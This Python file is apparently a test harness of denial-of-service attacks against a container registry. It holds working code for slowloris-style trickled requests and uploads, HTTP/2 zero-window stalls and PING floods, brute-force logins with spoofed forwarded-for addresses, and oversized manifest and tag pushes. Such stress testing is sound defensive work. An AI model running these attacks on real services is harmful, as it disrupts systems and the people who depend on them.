"""Attacks with bounded numbers, each a program of its own: attacks.py NAME HOST:PORT. It prints `standing`
when it has begun, and goes on until it is stopped. All of them come from 127.0.1.0/24."""

import asyncio
import base64
import json
import os
import struct
import sys

from well_behaved import REPOSITORY

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# Another user than the well-behaved one: what all share is divided between users.
USER, PASSWORD = "mallory", "the password of mallory"
BLOB = os.environ.get("ATTACKED_BLOB", "")
LOGIN = base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode()


async def connect(number):
    """From one of a few addresses, never from that of the well-behaved client."""
    sender = (f"127.0.1.{number % 8 + 1}", 0)
    return await asyncio.open_connection(*ATTACKED, local_addr=sender)


async def forever(count, attack):
    """`count` of them at once, each again when the registry has ended it, after a pause."""
    begun = asyncio.Semaphore(0)

    async def one(number):
        first = True
        while True:
            try:
                reader, writer = await connect(number)
                held = attack(number, reader, writer)
                if first:
                    first = False
                    begun.release()
                await held
                writer.close()
            except (OSError, EOFError):
                pass
            await asyncio.sleep(0.5)

    ones = [asyncio.create_task(one(number)) for number in range(count)]
    for _ in ones:
        await begun.acquire()
    await asyncio.sleep(0.5)
    print("standing", flush=True)
    await asyncio.gather(*ones)


def head(method, path, *lines, login=True):
    shown = [f"authorization: Basic {LOGIN}"] if login else []
    return "\r\n".join([f"{method} {path} HTTP/1.1", "host: a", *shown, *lines, "", ""]).encode()


def until_closed(sent):
    """Sends this and waits for the end of the connection."""
    async def attack(number, reader, writer):
        writer.write(sent(number))
        await writer.drain()
        while await reader.read(65536):
            pass
    return attack


def trickling(sent, pause=3):
    """Sends this, and then a byte from time to time."""
    async def attack(number, reader, writer):
        writer.write(sent(number))
        while not reader.at_eof():
            await writer.drain()
            await asyncio.sleep(pause)
            writer.write(b"x")
            if writer.is_closing():
                return
    return attack


def frame(kind, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    """A string of HPACK without a code, shorter than 16,383 bytes."""
    length = len(value)
    if length < 127:
        return bytes([length]) + value
    rest, shown = length - 127, bytes([127])
    while rest >= 128:
        shown, rest = shown + bytes([rest % 128 + 128]), rest // 128
    return shown + bytes([rest]) + value


def field(name, value):
    """A header that no table keeps."""
    return b"\x00" + text(name) + text(value)


def request(stream, path, *more):
    fields = [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"a"), (b":path", path.encode()), *more]
    return frame(1, 0x5, stream, b"".join(field(*one) for one in fields))


def without_a_window(path, streams, login):
    """HTTP/2 requests whose answers the client never takes. It answers every PING."""
    more = [(b"authorization", b"Basic " + LOGIN.encode())] if login else []

    async def attack(number, reader, writer):
        settings = struct.pack(">HI", 4, 0)
        writer.write(PREFACE + frame(4, 0, 0, settings))
        for index in range(streams):
            writer.write(request(2 * index + 1, path, *more))
        await writer.drain()
        while True:
            start = await reader.readexactly(9)
            payload = await reader.readexactly(int.from_bytes(start[:3], "big"))
            if start[3] == 6 and not start[4] & 1:
                writer.write(frame(6, 1, 0, payload))
            elif start[3] == 4 and not start[4] & 1:
                writer.write(frame(4, 1, 0, b""))
            await writer.drain()
    return attack


def again_and_again(sent, pause):
    """A request after another on one connection, with a pause between them."""
    async def attack(number, reader, writer):
        count = 0
        while True:
            writer.write(sent(number * 100_000 + count))
            await writer.drain()
            if not await asyncio.wait_for(reader.read(1 << 20), 60):
                return
            count += 1
            await asyncio.sleep(pause)
    return attack


def wrong_login(number):
    wrong = base64.b64encode(f"{USER}:wrong {number}".encode()).decode()
    sender = f"198.51.{number // 100_000 % 250}.{number % 250}"
    return head("GET", "/v2/", f"authorization: Basic {wrong}", f"x-forwarded-for: {sender}", login=False)


def manifest_of_nothing(number):
    layers = [
        {"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip", "size": 1,
         "digest": f"sha256:{number * 10_000 + layer:064x}"}
        for layer in range(3000)
    ]
    body = json.dumps({
        "schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "config": layers[0], "layers": layers,
    }).encode()
    kind = "content-type: application/vnd.oci.image.manifest.v1+json"
    return head("PUT", f"/v2/{REPOSITORY}/manifests/none", kind, f"content-length: {len(body)}") + body


def flood(payload, pause):
    async def attack(number, reader, writer):
        writer.write(PREFACE + frame(4, 0, 0, b""))
        while True:
            writer.write(payload * 100)
            await writer.drain()
            await asyncio.wait_for(reader.read(1 << 20), 5)
            await asyncio.sleep(pause)
    return attack


UPLOAD = f"/v2/{REPOSITORY}/blobs/uploads/"
MANIFEST = f"/v2/{REPOSITORY}/manifests/attack"
TAGS = "&".join(f"tag=t{number}" for number in range(7000))
# What it is, how many at once, and what one does.
ATTACKS = {
    "silent": ("connections that send nothing, 1 or 23 bytes", 200,
               until_closed(lambda number: PREFACE[: (0, 1, 23)[number % 3]])),
    "head": ("heads of requests that never end", 200, trickling(lambda _: b"GET /v2/ HTTP/1.1\r\nx: ")),
    "window": ("HTTP/2 answers that are never taken, with a login", 5,
               without_a_window(f"/v2/{REPOSITORY}/blobs/{BLOB}", 100, True)),
    "window-anonymous": ("HTTP/2 answers that are never taken, without a login", 20,
                         without_a_window("/v2/?" + "x" * 14_000, 100, False)),
    "manifests": ("manifests of 4 MiB whose last byte never comes", 120, trickling(
        lambda _: head("PUT", MANIFEST, "content-length: 4194304") + b"x" * 4_194_000)),
    "trickle": ("uploads of a terabyte, a byte at a time", 15, trickling(
        lambda number: head("POST", f"{UPLOAD}?digest=sha256:{number:064x}",
                            "content-length: 1099511627776" if number < 12 else "content-length: 1048576")
        + b"x" * 102_400)),
    "places": ("uploads, a byte at a time", 200, trickling(
        lambda number: head("POST", f"{UPLOAD}?digest=sha256:{number:064x}", "content-length: 1000000") + b"x")),
    "logins": ("wrong passwords from 250 addresses", 250, again_and_again(wrong_login, 0)),
    "descriptors": ("manifests of 3,000 layers that are not there", 2, again_and_again(manifest_of_nothing, 0.1)),
    "tags": ("pushes of 7,000 tags each", 4, again_and_again(
        lambda _: head("PUT", f"{MANIFEST}?{TAGS}", "content-length: 2") + b"{}", 0.05)),
    "pings": ("floods of PING frames of HTTP/2", 2, flood(frame(6, 0, 0, b"12345678"), 0.01)),
}

if __name__ == "__main__":
    host, port = sys.argv[2].split(":")
    ATTACKED = (host, int(port))
    _, count, attack = ATTACKS[sys.argv[1]]
    asyncio.run(forever(count, attack))
